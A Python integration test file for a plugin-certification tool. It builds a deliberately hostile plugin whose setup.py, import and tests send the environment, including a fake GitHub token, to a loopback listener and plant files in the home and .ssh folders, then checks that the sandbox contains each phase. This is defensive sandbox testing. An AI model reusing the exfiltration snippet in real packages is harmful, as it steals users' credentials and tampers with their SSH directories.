"""`aitbc-plugin certify` of a hostile plugin whose code, in its setup.py, at import and
in its own tests, tries to send the caller's secrets to a listener on the host's
loopback and to plant files in the caller's home: the phases that run it in the kernel
jail (build, metadata probe, lifecycle, tests) let nothing out, and the report says what
was contained and what was not."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from certify_support import make_project
from conftest import FAST_POLICY, VULN_DB
from test_jail import listener

pytestmark = pytest.mark.integration
TOOL = Path(sys.executable).with_name("aitbc-plugin")
SECRET = "ghp_certify_contained_fake_secret"

EXFILTRATE = """
import os as _os, socket as _socket
from pathlib import Path as _Path


def _exfiltrate(where: str) -> None:
    try:
        with _socket.create_connection(("127.0.0.1", {port}), 1) as s:
            s.sendall(f"{{where}}: {{dict(_os.environ)}}".encode())
    except OSError:
        pass
    for target in ({marker!r}, {ssh!r}):  # the caller's own folders, by their paths
        try:
            _Path(target, f"planted-at-{{where}}").write_text(repr(dict(_os.environ)))
        except OSError:
            pass


_exfiltrate("import")
"""


def test_a_hostile_plugin_gets_nothing_out(tmp_path: Path) -> None:
    home = tmp_path / "home"
    marker = home / "marker"
    (home / ".ssh").mkdir(parents=True)
    marker.mkdir()
    project = make_project("sly-plugin", "base", tmp_path / "src")
    policy = tmp_path / "policy.toml"
    policy.write_text(FAST_POLICY)
    with listener() as (port, received):
        code = EXFILTRATE.format(port=port, marker=str(marker), ssh=str(home / ".ssh"))
        plugin = project / "plugin.py"
        plugin.write_text(plugin.read_text(encoding="utf-8") + code, encoding="utf-8")
        setup = project / "setup.py"
        setup.write_text(
            setup.read_text(encoding="utf-8") + code.replace('"import"', '"build"'),
            encoding="utf-8",
        )
        test_file = project / "tests" / "test_plugin.py"
        test_file.write_text(
            test_file.read_text(encoding="utf-8")
            + code.replace(
                '_exfiltrate("import")', 'def test_exfiltrates():\n    _exfiltrate("tests")'
            )
        )
        env = {**os.environ, "HOME": str(home), "GITHUB_TOKEN": SECRET,
               "XDG_CACHE_HOME": str(tmp_path / "cache")}  # fmt: skip
        run = subprocess.run([str(TOOL), "certify", str(project), "--format", "json",
                              "--vuln-db", str(VULN_DB), "--policy", str(policy)],
                             capture_output=True, text=True, env=env, timeout=600)  # fmt: skip
    report = json.loads(run.stdout)
    assert received == []  # not one byte reached the host's loopback
    assert list(marker.iterdir()) == [] and list((home / ".ssh").iterdir()) == []
    assert SECRET not in run.stdout  # the secret was never in the plugin's reach
    assert report["isolation"]["level"] == "full", report["isolation"]
    assert report["isolation"]["contained"] == ["build", "import", "lifecycle", "tests"]
    # Judged by what it did, seen from outside: each phase's check names each action.
    assert not report["certified"]
    by_id = {c["id"]: c for c in report["checks"]}
    phases = {"build": "build", "import": "metadata", "lifecycle": "lifecycle", "tests": "tests"}
    for phase, check_id in phases.items():
        check = by_id[check_id]
        messages = [f["message"] for f in check["findings"]]
        assert check["status"] == "failed", (phase, check)
        assert any(f"127.0.0.1:{port}" in m and m.startswith(f"{phase}: ") for m in messages)
        planted = "import" if phase == "lifecycle" else phase  # the worker imports it too
        assert any(str(marker / f"planted-at-{planted}") in m for m in messages), messages
        assert any("/.ssh/planted-at-" in m for m in messages), messages
        rules = {f["rule"] for f in check["findings"]}
        assert rules == {f"{check_id}.network", f"{check_id}.write"}, rules
        record = report["behaviour"][phase]
        assert record["observed"] and any(str(port) in a for a in record["network"])


def _without_strace(tmp_path: Path) -> dict[str, str]:
    """A PATH with bubblewrap but no strace: the jail without the watcher."""
    tools = tmp_path / "tools"
    tools.mkdir()
    for name in ("bwrap", "git", "sh"):
        found = shutil.which(name)
        if found:
            (tools / name).symlink_to(found)
    return {**os.environ, "PATH": f"{Path(sys.executable).parent}:{tools}"}


def test_a_run_without_the_watcher_says_so_and_the_policy_decides(tmp_path: Path) -> None:
    project = make_project("plain-plugin", "base", tmp_path / "src")
    env = _without_strace(tmp_path)
    base = [str(TOOL), "certify", str(project), "--vuln-db", str(VULN_DB)]
    local = subprocess.run(base, capture_output=True, text=True, env=env, timeout=600)
    assert local.returncode == 0, local.stdout + local.stderr  # a local run goes on...
    said = [line for line in local.stdout.splitlines() if line.startswith("Isolation:")]
    assert said == ["Isolation: partial (build, import, lifecycle, tests in bubblewrap "
                    f"{said[0].split('bubblewrap ')[1].split(';')[0]}; strace is not installed: "
                    "no behaviour record)"], said  # fmt: skip
    strict = subprocess.run([*base, "--require-isolation", "full", "--format", "json"],
                            capture_output=True, text=True, env=env, timeout=600)  # fmt: skip
    report = json.loads(strict.stdout)
    assert strict.returncode == 1 and not report["certified"]
    assert report["reasons"] == [
        "isolation partial, the policy requires full: strace is not installed: no behaviour record"
    ]


def test_a_bad_isolation_requirement_is_one_line(tmp_path: Path) -> None:
    project = make_project("plain-plugin", "base", tmp_path / "src")
    policy = tmp_path / "policy.toml"
    policy.write_text('[isolation]\nrequire = "total"\n')
    run = subprocess.run([str(TOOL), "certify", str(project), "--policy", str(policy)],
                         capture_output=True, text=True, timeout=120)  # fmt: skip
    assert run.returncode == 2 and "Traceback" not in run.stderr
    assert run.stderr.strip().splitlines() == [
        f"aitbc-plugin: policy {policy}: isolation.require must be one of ('partial', 'full')"
    ]
